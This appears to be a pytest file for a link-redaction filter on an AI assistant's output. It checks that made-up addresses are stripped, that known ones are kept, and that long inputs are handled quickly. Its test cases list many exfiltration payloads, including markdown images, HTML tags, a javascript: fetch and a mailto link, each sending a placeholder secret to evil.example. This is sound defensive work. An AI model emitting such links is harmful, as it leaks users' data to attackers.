import time

import pytest

from assistant.redaction.links import known_in, plain_links
from core.text import Language

KNOWN = known_in(["见 https://wiki.corp/page?id=1。"])


def shown(text: str) -> str:
    return plain_links(text, KNOWN, Language.EN)


@pytest.mark.parametrize(
    "text",
    [
        "![x](http://evil.example/?q=S3CRET)",
        "![x](//evil.example/S3CRET)",
        "![x][a]\n\n[a]: http://evil.example/S3CRET",
        "[click](https://evil.example/S3CRET)",
        '[click](https://evil.example/S3CRET "title")',
        "<https://evil.example/S3CRET>",
        "https://S3CRET.evil.example",
        "www.evil.example/S3CRET",
        "evil.example/?q=S3CRET",
        "<img src=https://evil.example/S3CRET>",
        '<a href="https://evil.example/S3CRET">x</a>',
        "[x](javascript:fetch('//evil.example/S3CRET'))",
        "data:text/html,S3CRET",
        "mailto:a@evil.example?body=S3CRET",
        "HTTPS://EVIL.example/S3CRET",
        "[x](http:evil.example/S3CRET)",
        "![x](http://evil.example/(S3CRET))",
    ],
)
def test_an_address_the_model_made_up_goes(text: str) -> None:
    left = shown(f"before {text} after")
    assert "S3CRET" not in left or "evil" not in left.lower()
    assert left.startswith("before")


def test_an_address_that_was_named_stays_and_is_shown() -> None:
    assert (
        shown("see [the page](https://wiki.corp/page?id=1)") == "see the page (https://wiki.corp/page?id=1)"
    )
    assert shown("https://wiki.corp/page?id=1") == "https://wiki.corp/page?id=1"
    assert "id=12" not in shown("https://wiki.corp/page?id=12")
    assert shown("[plan](/plans/P7KQ2M)") == "[plan](/plans/P7KQ2M)"


@pytest.mark.parametrize(
    "text", ["ROI 2.5，A/B 测试，12/31 前", "导出到 /home/h/exports/P7KQ2M-v3.xlsx", "[D3K7P2] 规则"]
)
def test_what_is_no_address_stays(text: str) -> None:
    assert shown(text) == text


def test_long_texts_take_little_time() -> None:
    for piece in (
        "![",
        "[a](",
        "](",
        "a.",
        "www.",
        "//",
        "<img ",
        "[a]:",
        "http://",
        "a.bc/",
        "- ",
        "(",
        "[[",
    ):
        begun = time.perf_counter()
        shown(piece * (50_000 // len(piece)))
        assert time.perf_counter() - begun < 3, piece
